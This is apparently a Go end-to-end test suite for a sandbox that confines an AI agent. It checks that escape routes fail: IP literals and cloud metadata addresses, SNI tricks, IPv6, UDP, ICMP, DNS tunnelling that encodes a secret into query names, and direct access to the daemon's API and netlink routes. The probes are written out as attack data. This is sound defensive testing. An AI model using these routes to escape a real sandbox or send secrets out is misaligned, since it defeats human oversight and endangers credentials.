package attacks

import (
	"encoding/hex"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/standin/standin/e2e/harness"
)

// leaveAnotherWay: the agent tries to reach something its rules do not
// allow, by address, by protocol, through DNS, or by talking to the daemon
// or the host kernel directly.
func leaveAnotherWay(t *testing.T, ag *agent) {

	// A connection to an address the sandbox did not look up is judged
	// by the address (or by its TLS server name): refused by the rules
	// before anything is dialed. The sandbox's kernel connected to the
	// daemon's stack, so it sees the connection close, without a reply.
	run(t, "leave/IP literal outside the rules", func(t *testing.T, a *attack) {
		mark := logMark()
		ips := []string{"192.0.2.1", "10.0.0.1", "169.254.169.254"}
		var args []string
		for _, ip := range ips {
			args = append(args, "http://"+ip+"/latest/meta-data/")
		}
		// Then TLS, and a denied name in SNI to an address.
		args = append(args, "-k https://192.0.2.1/", "-k --connect-to "+deniedHost+":443:192.0.2.1:443 https://"+deniedHost+"/")
		crs := curls(t, a, ag.name, args...)
		for i, ip := range ips {
			a.want(crs[i].code == 52 && strings.Contains(crs[i].err, "Empty reply from server"),
				"curl http://%s/: exit %d %q, want 52 (connection closed without a reply)", ip, crs[i].code, crs[i].err)
			a.want(flowRefused(mark, ag.name, ip, reasonRuleDenied), "no flow refusal for %s with %q in the server's log:%s", ip, reasonRuleDenied, flowRefusals(mark, ag.name))
		}
		for i, what := range []string{"TLS to 192.0.2.1", "TLS to 192.0.2.1 with SNI " + deniedHost} {
			cr := crs[len(ips)+i]
			a.want(cr.code == 35, "%s: exit %d %q, want 35 (TLS closed by the gateway)", what, cr.code, cr.err)
		}
		// Both refused by the rules (the log line names the address
		// dialed, not the server name judged).
		n := 0
		for _, m := range logLines(mark, "flow refused", ag.name) {
			if m["host"] == "192.0.2.1" && m["reason"] == reasonRuleDenied {
				n++
			}
		}
		a.want(n == 3, "%d flow refusals for 192.0.2.1, want 3 (plain, TLS, TLS with SNI):%s", n, flowRefusals(mark, ag.name))
		a.want(len(harness.Srv.Up.Requests(deniedHost)) == 0, "%s was reached", deniedHost)
	})

	// The address the sandbox picks is never dialed: with the secret
	// host's name in SNI, the gateway dials that name itself, so the
	// request (and the real value) reaches the secret's host only.
	run(t, "leave/IP literal with the secret host in SNI", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		cr := curl(t, a, ag.name, "--connect-to "+apiHost+":443:192.0.2.1:443 https://"+apiHost+`/pinned -H "Authorization: Bearer $API_KEY"`)
		a.want(cr.code == 0 && cr.resp.status == 200 && string(cr.resp.body) == "api ok\n",
			"curl: exit %d status %d %q, want 200 from %s (dialed by name)", cr.code, cr.resp.status, cr.resp.body, apiHost)
		got := harness.Srv.Up.Since(mark, "")
		a.upstream(got, apiHost)
		a.want(len(got) == 1 && got[0].Host == apiHost && got[0].Path == "/pinned" && got[0].Header.Get("Authorization") == "Bearer "+ag.apiReal,
			"upstream got %v, want one request to %s with the real value in its slot", got, apiHost)
	})

	run(t, "leave/IPv6", func(t *testing.T, a *attack) {
		out := probe(t, a, ag.name, "connect6 2001:db8::1 443", "connect6 ::1 443", "dns "+apiHost+" AAAA udp")
		a.want(out["connect6 2001:db8::1 443"] == "ERR EHOSTUNREACH", "IPv6 connect: %q, want EHOSTUNREACH (no IPv6 route)", out["connect6 2001:db8::1 443"])
		a.want(out["connect6 ::1 443"] == "ERR EADDRNOTAVAIL", "IPv6 loopback: %q, want EADDRNOTAVAIL (no IPv6 address at all)", out["connect6 ::1 443"])
		a.want(out["dns "+apiHost+" AAAA udp"] == "rcode=0 answers=0", "AAAA for an allowed name: %q, want no records", out["dns "+apiHost+" AAAA udp"])
		r := harness.Sh(t, ag.name, "ip -6 route; ip -6 addr show dev tun0")
		a.sandboxSaw(r)
		a.want(r.Code == 0 && strings.TrimSpace(r.Stdout) == "", "IPv6 routes or addresses on tun0: %q, want none", r.Output())
	})

	// UDP other than DNS to the resolver, and ICMP, never leave the TUN
	// device: the daemon's filter drops them before its stack sees them,
	// so nothing answers, not even with an ICMP error.
	run(t, "leave/UDP", func(t *testing.T, a *attack) {
		dns := len(harness.Srv.DNS.Queries())
		out := probe(t, a, ag.name, "udp 192.0.2.53 53 exfil-udp.attacks.e2e.test", "udp RESOLVER 5353 exfil-udp.attacks.e2e.test",
			"udp 192.0.2.53 443 exfil-udp.attacks.e2e.test")
		for p, got := range out {
			a.want(got == "sent, no reply", "%s: %q, want the datagram dropped (no reply, no error)", p, got)
		}
		a.want(len(dnsSince(dns)) == 0, "the gateway's resolver was asked %v", dnsSince(dns))
	})

	run(t, "leave/ICMP", func(t *testing.T, a *attack) {
		out := probe(t, a, ag.name, "socket AF_INET SOCK_RAW IPPROTO_ICMP", "socket AF_PACKET SOCK_RAW 0", "icmp 192.0.2.1", "icmp RESOLVER")
		a.want(out["socket AF_INET SOCK_RAW IPPROTO_ICMP"] == "ERR EPERM", "raw ICMP socket: %q, want EPERM (no CAP_NET_RAW)", out["socket AF_INET SOCK_RAW IPPROTO_ICMP"])
		a.want(out["socket AF_PACKET SOCK_RAW 0"] == "ERR EPERM", "packet socket: %q, want EPERM", out["socket AF_PACKET SOCK_RAW 0"])
		for _, p := range []string{"icmp 192.0.2.1", "icmp RESOLVER"} {
			a.want(out[p] == "sent, no reply", "%s (ping socket): %q, want the echo dropped, no reply", p, out[p])
		}
	})

	// DNS tunnelling: the resolver the sandbox talks to answers only the
	// names the rules allow, from its own pool, and never asks anyone:
	// the data in a query name reaches no DNS server. The gateway, which
	// does resolve names when it dials, refuses a name the rules deny
	// before resolving it.
	run(t, "leave/DNS tunnel", func(t *testing.T, a *attack) {
		dns := len(harness.Srv.DNS.Queries())
		mark := logMark()
		label := hex.EncodeToString([]byte(ag.apiStandIn))[:40]
		names := []string{label + ".exfil.attacks.e2e.test", "exfil." + apiHost}
		var probes []string
		for _, n := range names {
			probes = append(probes, "dns "+n+" A udp", "dns "+n+" TXT udp", "dns "+n+" A tcp", "dns "+n+" ANY tcp")
		}
		for p, got := range probe(t, a, ag.name, probes...) {
			a.want(got == "rcode=3 answers=0", "%s: %q, want NXDOMAIN", p, got)
		}
		r := harness.Exec(t, ag.name, "getent", "hosts", names[0])
		a.sandboxSaw(r)
		a.want(r.Code == 2, "getent hosts %s: exit %d, want 2 (not found)", names[0], r.Code)
		// The name in SNI, to an address: refused, and never resolved
		// (the log line names the address dialed).
		raw := rawTLS(t, a, ag.name, "192.0.2.1", "443", names[0], true, "GET / HTTP/1.1\r\nHost: "+names[0]+"\r\n\r\n")[0]
		a.want(strings.HasPrefix(raw, "ERR ssl"), "TLS with SNI %s: %q, want the handshake cut", names[0], raw)
		a.want(flowRefused(mark, ag.name, "192.0.2.1", reasonRuleDenied), "no flow refusal for SNI %s in the server's log:%s", names[0], flowRefusals(mark, ag.name))
		for _, q := range dnsSince(dns) {
			a.want(!strings.Contains(q, "exfil"), "the gateway's resolver was asked %q", q)
		}
	})

	// The daemon's API and proxy listen on the host's loopback. The
	// sandbox's 127.0.0.1 is its own; the namespace's gateway address is
	// the daemon's stack, whose flows the rules judge; an allowed name
	// resolving to 127.0.0.1 is refused when the gateway dials.
	run(t, "leave/daemon API port", func(t *testing.T, a *attack) {
		mark := logMark()
		const req = `GET\x20/v1/secrets\x20HTTP/1.0\r\n\r\n`
		var ports, probes, urls []string
		for _, addr := range []string{harness.Srv.APIAddr, harness.Srv.ProxyAddr} {
			_, port, _ := net.SplitHostPort(addr)
			ports = append(ports, port)
			probes = append(probes, "connect 127.0.0.1 "+port+" "+req, "connect RESOLVER "+port+" "+req)
			urls = append(urls, "http://"+rebindLoopback+":"+port+"/v1/secrets")
		}
		out := probe(t, a, ag.name, probes...)
		crs := curls(t, a, ag.name, urls...)
		for i, port := range ports {
			a.want(out["connect 127.0.0.1 "+port+" "+req] == "ERR ECONNREFUSED", "127.0.0.1:%s inside: %q, want ECONNREFUSED", port, out["connect 127.0.0.1 "+port+" "+req])
			a.want(out["connect RESOLVER "+port+" "+req] == "OK connected, reply b''", "gateway address port %s: %q, want the flow closed without a reply", port, out["connect RESOLVER "+port+" "+req])
			a.want(crs[i].code == 0 && upstreamRefused(reasonSpecial).matches(crs[i].resp),
				"%s: exit %d status %d %s, want %v", urls[i], crs[i].code, crs[i].resp.status, crs[i].resp.body, upstreamRefused(reasonSpecial))
		}
		a.want(flowRefused(mark, ag.name, "100.96.0.1", reasonRuleDenied), "no flow refusal for the gateway address in the server's log")
		a.want(apiRequests(mark, 401) == 0, "the API answered %d unauthenticated request(s)", apiRequests(mark, 401))
	})

	run(t, "leave/daemon API socket", func(t *testing.T, a *attack) {
		sock := filepath.Join(harness.Srv.DataDir, "api.sock")
		if fi, err := os.Stat(sock); err != nil || fi.Mode()&os.ModeSocket == 0 {
			t.Fatalf("on the host, %s is not a socket: %v", sock, err)
		}
		out := probe(t, a, ag.name, "unix "+sock)
		a.want(out["unix "+sock] == "ERR ENOENT", "connect %s inside: %q, want ENOENT", sock, out["unix "+sock])
	})

	// Only created, never connected: on these machines a vsock reaches
	// the hypervisor's host.
	run(t, "leave/AF_VSOCK", func(t *testing.T, a *attack) {
		for p, got := range probe(t, a, ag.name, "socket AF_VSOCK SOCK_STREAM 0", "socket AF_VSOCK SOCK_DGRAM 0") {
			a.want(got == "ERR EAFNOSUPPORT", "%s: %q, want EAFNOSUPPORT", p, got)
		}
	})

	// gVisor offers NETLINK_ROUTE (ip reads routes through it), but the
	// sandbox's user has no CAP_NET_ADMIN: every change is refused and the
	// routes stay as they were. Other families are not offered.
	run(t, "leave/netlink", func(t *testing.T, a *attack) {
		out := probe(t, a, ag.name, "socket AF_NETLINK SOCK_RAW 0", "socket AF_NETLINK SOCK_RAW 12")
		a.want(out["socket AF_NETLINK SOCK_RAW 0"] == "OK created", "NETLINK_ROUTE: %q, want it created", out["socket AF_NETLINK SOCK_RAW 0"])
		a.want(out["socket AF_NETLINK SOCK_RAW 12"] == "ERR EPROTONOSUPPORT", "NETLINK_NETFILTER: %q, want EPROTONOSUPPORT", out["socket AF_NETLINK SOCK_RAW 12"])
		// -o: one line per address; sorted, since the order of
		// interfaces varies.
		const show = "ip -4 route; ip -4 -o addr | sort"
		before := harness.Sh(t, ag.name, show)
		r := harness.Sh(t, ag.name, `ip addr add 10.9.9.9/32 dev lo; echo "addr=$?"
ip route add 192.0.2.0/24 dev tun0; echo "route=$?"
ip route replace default via 100.96.0.2 dev tun0; echo "default=$?"
ip link set tun0 down; echo "link=$?"`)
		a.sandboxSaw(r)
		a.want(r.Stdout == "addr=2\nroute=2\ndefault=2\nlink=2\n", "ip changes: %q, want each refused", r.Stdout)
		lines := strings.Split(strings.TrimSpace(r.Stderr), "\n")
		a.want(len(lines) == 4 && !slices.ContainsFunc(lines, func(l string) bool { return l != "RTNETLINK answers: Permission denied" }),
			"ip errors: %q, want EACCES (Permission denied) for each", r.Stderr)
		after := harness.Sh(t, ag.name, show)
		a.want(before.Code == 0 && after.Stdout == before.Stdout, "routes or addresses changed:\nbefore:\n%s\nafter:\n%s", before.Stdout, after.Stdout)
		a.want(strings.Contains(before.Stdout, "default via 100.96.0.1 dev tun0"), "routes inside: %q, want the default via tun0", before.Stdout)
	})
}
